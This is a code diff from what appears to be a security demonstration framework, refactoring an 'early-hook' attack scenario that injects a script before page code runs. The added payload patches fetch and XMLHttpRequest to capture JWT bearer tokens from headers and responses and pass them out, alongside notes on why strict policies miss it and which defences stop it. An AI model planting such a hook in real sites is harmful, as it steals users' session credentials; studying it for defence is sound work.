@@ -4,6 +4,32 @@
 import type { Attack } from '../attack.ts'
 import { told } from '../scene.ts'
 import { awaitLoot, judgeToken } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = (kit) => {
+  const look = (text: unknown): void => {
+    const token = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(String(text))?.[0]
+    if (token === undefined) return
+    kit.take('token', token)
+    void kit.flush()
+  }
+  const { fetch } = window
+  window.fetch = async (input, init) => {
+    look(new Headers(input instanceof Request ? input.headers : init?.headers).get('authorization'))
+    const answer = await fetch(input, init)
+    look(await answer.clone().text())
+    return answer
+  }
+  const { setRequestHeader, send } = XMLHttpRequest.prototype
+  XMLHttpRequest.prototype.setRequestHeader = function patched(name, value) {
+    look(value)
+    setRequestHeader.call(this, name, value)
+  }
+  XMLHttpRequest.prototype.send = function patched(body) {
+    this.addEventListener('load', () => look(this.responseText))
+    send.call(this, body)
+  }
+}
 
 export const earlyHook: Attack = {
   name: 'early-hook',
@@ -13,6 +39,7 @@ export const earlyHook: Attack = {
   why: 'Who comes first owns every built-in that comes after. A strict policy lets this script in, and where connect-src forbids sending, it leaves by navigating.',
   stops:
     'Cookies that script never sees. Fewer dependencies, pinned and reviewed; subresource integrity for what others host.',
+  script: { when: 'early', payload: script },
   control: 'local-storage',
   succeedsOn: [
     'local-storage',
@@ -24,30 +51,7 @@ export const earlyHook: Attack = {
     'hallpass-strict',
   ],
   async run(scene) {
-    scene.injectEarly((kit) => {
-      const look = (text: unknown): void => {
-        const token = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(String(text))?.[0]
-        if (token === undefined) return
-        kit.take('token', token)
-        void kit.flush()
-      }
-      const { fetch } = window
-      window.fetch = async (input, init) => {
-        look(new Headers(input instanceof Request ? input.headers : init?.headers).get('authorization'))
-        const answer = await fetch(input, init)
-        look(await answer.clone().text())
-        return answer
-      }
-      const { setRequestHeader, send } = XMLHttpRequest.prototype
-      XMLHttpRequest.prototype.setRequestHeader = function patched(name, value) {
-        look(value)
-        setRequestHeader.call(this, name, value)
-      }
-      XMLHttpRequest.prototype.send = function patched(body) {
-        this.addEventListener('load', () => look(this.responseText))
-        send.call(this, body)
-      }
-    })
+    scene.injectEarly(script)
     const page = await scene.open()
     await told(page, 'ready')
     const installed = await scene.thief.report()
